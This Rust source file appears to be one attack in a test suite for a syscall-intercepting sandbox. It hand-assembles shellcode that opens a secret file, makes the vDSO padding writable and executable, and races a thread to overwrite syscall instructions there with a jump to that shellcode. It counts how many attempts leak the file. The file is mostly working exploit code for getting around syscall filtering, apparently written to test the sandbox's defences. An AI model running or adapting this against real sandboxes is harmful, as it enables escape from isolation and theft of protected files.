//! An attack on the calls that the host has a program make: their code lies in
//! the padding after the vDSO, and another thread puts a call of its own there,
//! at a moment when the host takes calls for its own.

use std::sync::atomic::{AtomicI64, Ordering};

use libc::c_int;

use crate::sys::{Child, PAGE, c, check, map};

/// What the call that was put there came to.
static RESULT: AtomicI64 = AtomicI64::new(i64::MIN);

/// Exit statuses of an attempt.
const UNDISTURBED: c_int = 0;
const LEAKED: c_int = 1;
const REFUSED: c_int = 2;

/// Says how many attempts opened the secret, and whether any got so far as to
/// have its call made there.
pub fn main(root: &str, attempts: u64) {
    let code = code(&format!("{root}/s/file"));
    let (mut leaked, mut astray) = (0, false);
    for _ in 0..attempts {
        match Child::status_of(|| attempt(code)) {
            LEAKED => leaked += 1,
            REFUSED => astray = true,
            _ => {}
        }
    }
    println!("{leaked} leaked, {}", if astray { "led astray" } else { "never led astray" });
}

/// Code that opens the secret, keeps the result, and ends the thread.
fn code(secret: &str) -> u64 {
    let name = c(secret).into_raw() as u64;
    let result = RESULT.as_ptr() as u64;
    let number = |nr: libc::c_long| (nr as u32).to_le_bytes();
    let bytes = [
        &[0x48, 0xbe][..], // mov rsi, name
        &name.to_le_bytes(),
        &[0x48, 0xc7, 0xc7], // mov rdi, AT_FDCWD
        &libc::AT_FDCWD.to_le_bytes(),
        &[0x31, 0xd2, 0xb8], // xor edx, edx; mov eax, openat
        &number(libc::SYS_openat),
        &[0x0f, 0x05, 0x48, 0xa3], // syscall; mov [result], rax
        &result.to_le_bytes(),
        &[0x31, 0xff, 0xb8], // xor edi, edi; mov eax, exit
        &number(libc::SYS_exit),
        &[0x0f, 0x05], // syscall
    ]
    .concat();
    let protection = libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC;
    let page = map(1, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1, protection);
    unsafe { std::ptr::copy_nonoverlapping(bytes.as_ptr(), page, bytes.len()) };
    page as u64
}

/// A thread more, so that the first judged call needs the host's preparations.
fn attempt(code: u64) -> c_int {
    let padding = padding();
    std::thread::spawn(move || {
        // jmp [rip]; the address follows.
        let jump = [&[0xff, 0x25, 0, 0, 0, 0][..], &code.to_le_bytes()].concat();
        loop {
            match RESULT.load(Ordering::Relaxed) {
                i64::MIN => overwrite(padding, &jump),
                result => unsafe { libc::_exit(if result >= 0 { LEAKED } else { REFUSED }) },
            }
        }
    });
    for _ in 0..3 {
        unsafe { libc::open(c"/dev/null".as_ptr(), libc::O_RDONLY) };
    }
    UNDISTURBED
}

/// The zeros at the vDSO's end, made writable.
fn padding() -> (usize, usize) {
    let start = unsafe { libc::getauxval(libc::AT_SYSINFO_EHDR) } as usize;
    let maps = std::fs::read_to_string("/proc/self/maps").unwrap();
    let line = maps.lines().find(|line| line.ends_with("[vdso]")).unwrap();
    let end = usize::from_str_radix(line[line.find('-').unwrap() + 1..].split(' ').next().unwrap(), 16).unwrap();
    let protection = libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC;
    check(unsafe { libc::mprotect(start as *mut _, end - start, protection) }).unwrap();
    let last = (start..end).rev().find(|at| unsafe { (*at as *const u8).read() } != 0).unwrap();
    assert!(end - last < PAGE);
    ((last + 1).next_multiple_of(8), end)
}

/// Replaces a system call that is there.
fn overwrite((start, end): (usize, usize), jump: &[u8]) {
    for at in (start..end - 16).step_by(8) {
        if unsafe { (at as *const u16).read_volatile() } == 0x050f {
            unsafe {
                std::ptr::copy_nonoverlapping(jump[2..].as_ptr(), (at + 2) as *mut u8, jump.len() - 2);
                (at as *mut u16).write_volatile(u16::from_le_bytes([jump[0], jump[1]]));
            }
        }
    }
}
